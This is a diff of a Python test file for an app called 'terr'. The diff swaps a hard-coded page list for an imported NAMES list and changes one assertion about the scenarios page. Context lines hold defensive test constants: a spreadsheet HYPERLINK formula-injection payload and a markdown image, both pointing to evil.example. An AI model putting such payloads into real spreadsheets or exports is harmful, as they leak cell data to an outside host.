@@ -17,6 +17,7 @@ from terr.edits import moves
 from terr.model.person import Person
 from terr.model.reps import Rep
 from terr.report.safe import is_formula
+from terr.ui.access.pages import NAMES
 from terr.view.text import markdown
 from terr.workspace.accounts import dataset
 from terr.workspace.caches import Caches
@@ -27,7 +28,6 @@ from terr.workspace.reports import downloads
 from tests.conftest import ROOT
 from tests.helpers.spaces import DELAWARE, KENT, RHODE_ISLAND, csv_of, data_set, start
 
-PAGES = ("accounts", "scores", "plan", "scenarios", "reps", "reports", "settings")
 FORMULA = '=HYPERLINK("http://evil.example?"&A1,"x")'
 IMAGE = "![x](http://evil.example/x.png)"
 ADDRESSES = (
@@ -199,7 +199,7 @@ def test_a_plan_whose_accounts_are_lost_is_one_line_and_the_others_work(open_app
     sha = app_ws.store.datasets.get(lost.dataset_id).sha256
     (root / "accounts" / f"{lost.dataset_id}.parquet").unlink()
     (root / "uploads" / sha[:2] / sha).unlink()  # from which they would be made again
-    for page in PAGES:
+    for page in NAMES:
         app_ws.caches = Caches()  # as after a restart
         with caplog.at_level(logging.DEBUG):
             window = open_app(page, scenario=lost.id)
@@ -211,8 +211,7 @@ def test_a_plan_whose_accounts_are_lost_is_one_line_and_the_others_work(open_app
     window = open_app("plan", scenario=kept.id)
     assert not window.exception
     assert not window.error
-    tables = [d for d in open_app("scenarios").dataframe if d.key.startswith("terr_scenarios")]
-    assert len(tables[0].value) == 2
+    assert len([b for b in open_app("scenarios").button if b.key.startswith("open_")]) == 2
 
 
 @pytest.mark.parametrize("damage", ["gone", "cut", "other"])
@@ -247,7 +246,7 @@ def test_a_database_damaged_while_the_app_runs_is_one_line(open_app, app_ws, tmp
     app_ws.close()
     path = tmp_path / "terr" / "terr.db"
     path.write_bytes(b"\x00SQLite?" * 1000 if size == 0 else path.read_bytes()[:size])
-    for page in PAGES:
+    for page in NAMES:
         window = open_app(page, scenario=sid)
         assert not window.exception
         assert "Something went wrong" not in lines(window), page
